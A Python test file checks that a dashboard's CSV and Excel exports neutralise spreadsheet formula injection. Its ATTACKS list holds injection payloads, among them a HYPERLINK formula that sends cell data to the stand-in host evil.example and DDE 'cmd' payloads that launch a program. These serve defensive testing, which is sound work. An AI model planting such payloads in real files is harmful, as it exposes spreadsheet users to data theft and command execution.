"""Formula injection (issue 9, item 7): no file the product writes carries a live formula from data."""

from __future__ import annotations

import io
import re
import zipfile

import numpy as np
import pandas as pd
import pytest

from dashboard.formula_safety import csv_bytes, neutralise, neutralise_frame, xlsx_bytes
from dashboard.settings import ROOT

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "-",
    "+",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_gets_a_quote_in_front(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        -5,
        -4.5,
        3,
        0.0,
        np.int64(-7),
        "-5",
        "-1,234.50",
        "+3.5",
        "-0.4%",
        "1.2e-05",
        "Oak AP",
        "c",
        "",
        None,
        "O'Neill = fine",
        " =leading space",
    ],
)
def test_numbers_and_ordinary_text_are_untouched(value):
    assert neutralise(value) is value


def test_a_frame_keeps_its_numbers_numeric_and_neutralises_text_and_headers():
    frame = pd.DataFrame({"school_name": ["=1+1", "Hill School"], "value": [-3.5, 2.0], "=bad header": [1, 2]})
    out = neutralise_frame(frame)
    assert out["school_name"].tolist() == ["'=1+1", "Hill School"]
    assert out["value"].tolist() == [-3.5, 2.0] and pd.api.types.is_float_dtype(out["value"])
    assert list(out.columns) == ["school_name", "value", "'=bad header"]
    assert frame["school_name"].tolist() == ["=1+1", "Hill School"]  # the shown table is not changed


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "provider_name": ATTACKS[:4] + ["Oak AP"],
            "change": ["-5", "-1,234.50", "12", "c", ""],
            "cost_gbp": [-100.0, 0.5, 3.0, 4.0, 5.0],
        }
    )


def test_csv_download_neutralises_every_formula_prefix():
    rows = pd.read_csv(io.BytesIO(csv_bytes(_frame())), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert rows["provider_name"].tolist() == ["'" + a for a in ATTACKS[:4]] + ["Oak AP"]
    # negative numbers, as numbers or as text, stay numbers a spreadsheet can add up
    assert rows["change"].tolist() == ["-5", "-1,234.50", "12", "c", ""]
    assert rows["cost_gbp"].tolist() == ["-100.0", "0.5", "3.0", "4.0", "5.0"]


def _sheet_xml(workbook: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(workbook)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_download_holds_no_formula_and_keeps_numbers():
    workbook = xlsx_bytes(_frame(), "providers")
    assert "<f>" not in _sheet_xml(workbook) and "<f " not in _sheet_xml(workbook)
    back = pd.read_excel(io.BytesIO(workbook), engine="calamine", dtype=object, na_filter=False)
    assert back["provider_name"].tolist() == ["'" + a for a in ATTACKS[:4]] + ["Oak AP"]
    assert back["cost_gbp"].tolist() == [-100.0, 0.5, 3.0, 4.0, 5.0]


def test_xlsxwriter_would_write_a_formula_without_the_options():
    """The check above can fail: pandas' default xlsxwriter writes text beginning with = as a formula."""
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="xlsxwriter") as writer:
        pd.DataFrame({"a": ["=1+1"]}).to_excel(writer, index=False)
    assert "<f>" in _sheet_xml(buffer.getvalue())


# Every CSV or workbook the product writes goes through dashboard.formula_safety.
_WRITERS = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|xlsxwriter\.Workbook\(|openpyxl")


def test_no_module_writes_a_spreadsheet_except_through_formula_safety():
    offenders = [
        str(p.relative_to(ROOT))
        for p in (ROOT / "dashboard").rglob("*.py")
        if p.name != "formula_safety.py"
        and _WRITERS.search(text := p.read_text(encoding="utf-8"))
        and "from dashboard.formula_safety import" not in text
    ]
    assert offenders == []
